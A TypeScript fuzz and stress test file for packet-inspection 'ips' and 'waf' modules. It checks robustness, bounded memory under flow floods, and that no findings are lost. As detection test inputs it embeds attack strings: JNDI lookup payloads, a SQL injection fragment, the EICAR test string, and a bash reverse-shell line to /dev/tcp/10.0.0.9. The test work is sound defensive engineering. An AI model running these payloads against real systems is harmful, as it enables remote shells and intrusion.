import { buildFrame } from "@secuxflow/testkit";
import { BatchBuilder, Direction, dissectFrame } from "@secuxflow/inspect-abi";
import type { RecordFields } from "@secuxflow/inspect-abi";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { attackRequests } from "./testing/attacks.js";
import { batchesOf, builtModule, http, inspectAll, newModule, ruleIds, says, session } from "./testing/harness.js";
import { ordinaryRequests } from "./testing/ordinary.js";

const uint = (bits: number): fc.Arbitrary<number> => fc.integer({ min: 0, max: 2 ** bits - 1 });
const offset = fc.oneof(uint(16), fc.integer({ min: 0, max: 80 }), fc.constant(0xffff));

describe.each(["ips", "waf"] as const)("%s survives", (name) => {
  // Findings are checked by the host: a trap or a lie would throw here.
  it("random frames with random records", async () => {
    const instance = await newModule(name);
    const record: fc.Arbitrary<Partial<RecordFields>> = fc.record({
      flowIdLow: uint(3),
      l3Offset: offset,
      l4Offset: offset,
      payloadOffset: offset,
      sport: uint(2),
      dport: uint(2),
      family: fc.constantFrom(0, 4, 6),
      proto: fc.constantFrom(6, 6, 17, 1, 0),
      kind: fc.constantFrom(1, 1, 1, 2, 3),
      direction: fc.constantFrom(0, 1, 2),
      flags: uint(5),
      wireLen: uint(32),
    });
    const packet = fc.record({ frame: fc.uint8Array({ maxLength: 200 }), fields: record, atMs: fc.nat({ max: 3000 }) });
    fc.assert(
      fc.property(fc.array(packet, { maxLength: 30 }), (packets) => {
        inspectAll(instance, packets);
      }),
      { numRuns: 400 },
    );
  });

  it("mutated conversations", async () => {
    const instance = await newModule(name);
    const texts = [...attackRequests, ...ordinaryRequests];
    const edits = fc.array(fc.tuple(uint(16), uint(16), uint(8)), { maxLength: 10 });
    fc.assert(
      fc.property(fc.nat({ max: texts.length - 1 }), edits, fc.integer({ min: 1, max: 40 }), (index, changes, pieces) => {
        const text = texts[index] ?? "";
        const length = Buffer.byteLength(text);
        const step = Math.max(1, Math.ceil(length / pieces));
        const splitAt = Array.from({ length: Math.ceil(length / step) - 1 }, (_, i) => (i + 1) * step);
        const packets = session(says(text, { splitAt })).map(({ frame, ...rest }) => ({
          ...rest,
          frame: Uint8Array.from(frame),
        }));
        for (const [which, at, value] of changes) {
          const frame = packets[which % packets.length]?.frame;
          if (frame !== undefined) frame[at % frame.length] = value;
        }
        inspectAll(instance, packets);
      }),
      { numRuns: 400 },
    );
  });

  it("mutated text of requests", async () => {
    const instance = await newModule(name);
    const interesting = fc.constantFrom(..."'\"<>%&;|{}()[]\\\r\n\u0000 =:/-#*`$,".split(""));
    fc.assert(
      fc.property(
        fc.constantFrom(...attackRequests),
        fc.array(fc.tuple(uint(12), fc.oneof(interesting, fc.constant(""))), { maxLength: 12 }),
        (text, edits) => {
          let mutated = text;
          for (const [at, piece] of edits) {
            const position = at % (mutated.length + 1);
            mutated = mutated.slice(0, position) + piece + mutated.slice(position + (piece === "" ? 3 : 0));
          }
          if (mutated.length > 0) inspectAll(instance, session(says(Buffer.from(mutated, "latin1"))));
        },
      ),
      { numRuns: 500 },
    );
  });

  // A table of 16,384 flows is passed over and over.
  const small = name === "ips" ? "flows=16384" : undefined;

  it("more flows than fit, in bounded memory, and still finds attacks", async () => {
    const instance = await newModule(name, small);
    const attack = http("GET /?a=${jndi:x}'%20or%201=1--%20");
    // Unfinished requests hold the most.
    const payload = Buffer.from("POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nabc");
    const builder = new BatchBuilder({ publisher: 1n, partition: 0, maxRecords: 2000, maxBytes: 1024 * 1024 });
    const frame = (client: number): Uint8Array =>
      buildFrame({
        ipv4: { src: `10.${100 + (client >> 16)}.${(client >> 8) & 255}.${client & 255}`, dst: "10.7.0.2" },
        tcp: { srcPort: 1, dstPort: 80, seq: 5, flags: "PA" },
        payload,
      });
    const flood = (from: number, to: number): number => {
      for (let i = from; i < to; i++) {
        const bytes = frame(i);
        const record = { ...dissectFrame(bytes), flowIdLow: i * 64, flowIdHigh: i, direction: Direction.TO_SERVER, modules: 1 };
        if (!builder.append(record, bytes)) {
          instance.inspect(builder.finish(), 1);
          builder.append(record, bytes);
        }
      }
      instance.inspect(builder.finish(), 1);
      return instance.memory.bytes;
    };
    // Memory is taken as flows need it; once the table was full it does not grow any more.
    const full = flood(0, 24_000);
    expect(flood(24_000, 48_000)).toBe(full);
    expect(full).toBeLessThan(builtModule(name).memoryPages.max * 65_536);
    expect(inspectAll(instance, session(says(attack)))).not.toEqual([]);
  });

  it("segments out of order without end", async () => {
    const instance = await newModule(name, small);
    const flood = (host: number): number => {
      const packets = Array.from({ length: 3000 }, (_, i) => ({
        frame: buildFrame({
          ipv4: { src: `10.8.0.${host}`, dst: "10.8.0.200" },
          tcp: { srcPort: 1 + (i % 50), dstPort: 80, seq: 1000 + i * 700, flags: "A" },
          payload: "z".repeat(600),
        }),
        direction: Direction.TO_SERVER,
      }));
      inspectAll(instance, packets);
      return instance.memory.bytes;
    };
    // The same flows again hold no more than before.
    const held = flood(1);
    expect(flood(1)).toBe(held);
    for (let host = 2; host < 8; host++) flood(host);
    expect(instance.memory.bytes).toBeLessThan(builtModule(name).memoryPages.max * 65_536);
    expect(inspectAll(instance, session(says(http("GET /?a=${jndi:x}"))))).not.toEqual([]);
  });
});

describe("batches and outputs", () => {
  it("takes only records forwarded to it", async () => {
    const packets = session(says(http("GET /?a=${jndi:x}"))).map((packet) => ({ ...packet, fields: { modules: 2 } }));
    expect(inspectAll(await newModule("ips"), packets)).toEqual([]);
    const instance = await newModule("ips");
    expect(ruleIds(batchesOf(packets).flatMap((batch) => instance.inspect(batch, 2)))).toEqual([9_100_400, 9_100_402]);
    const all = await newModule("ips");
    expect(ruleIds(batchesOf(packets).flatMap((batch) => all.inspect(batch)))).toEqual([9_100_400, 9_100_402]);
  });

  it("loses no finding when the output fills up", async () => {
    const instance = await newModule("ips");
    // Three rules find something in each, and every finding carries the payload.
    const attack = "${jndi:ldap://e} bash -i >& /dev/tcp/10.0.0.9/1 X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!";
    const packets = Array.from({ length: 1200 }, (_, i) => ({
      frame: buildFrame({
        ipv4: { src: "10.1.0.7", dst: "10.2.0.5" },
        udp: { srcPort: 1024 + i, dstPort: 4001 },
        payload: attack + "x".repeat(1200),
      }),
    }));
    const batches = batchesOf(packets, 5000).length;
    const findings = inspectAll(instance, packets, 5000);
    expect(findings.map(({ recordIndex }) => recordIndex)).toEqual(packets.flatMap((_, i) => [i, i, i]));
    expect(ruleIds(findings)).toHaveLength(3);
    expect(instance.stats.calls).toBeGreaterThan(batches);
    expect(instance.stats.findingsDropped).toBe(0);
  });

  it.each(["ips", "waf"] as const)("of %s replay to the same findings", async (name) => {
    const packets = attackRequests.slice(0, 60).flatMap((request) => session(says(request)));
    const [first, second] = [await newModule(name), await newModule(name)];
    const findings = inspectAll(first, packets);
    expect(findings.length).toBeGreaterThan(20);
    expect(findings).toEqual(inspectAll(second, packets));
  });
});

describe("ips under memory pressure", () => {
  it("keeps half of it from what waits behind gaps, and goes on looking at new flows", async () => {
    const instance = await newModule("ips", "memory=32");
    const attack = http("GET /", { X: "${jndi:x}" });
    const found: number[][] = [];
    // Each round is 1.8 MB behind gaps, in 50 flows that never end.
    for (let host = 0; host < 16; host++) {
      const packets = Array.from({ length: 1500 }, (_, i) => ({
        frame: buildFrame({
          ipv4: { src: `10.8.1.${host}`, dst: "10.8.0.200" },
          tcp: { srcPort: 1 + (i % 50), dstPort: 80, seq: 1000 + i * 1300, flags: "A" },
          payload: "z".repeat(1200),
        }),
        direction: Direction.TO_SERVER,
      }));
      inspectAll(instance, packets);
      found.push(ruleIds(inspectAll(instance, session(says(attack)))));
    }
    expect(found).toEqual(Array.from({ length: 16 }, () => [9_100_400]));
  });
});
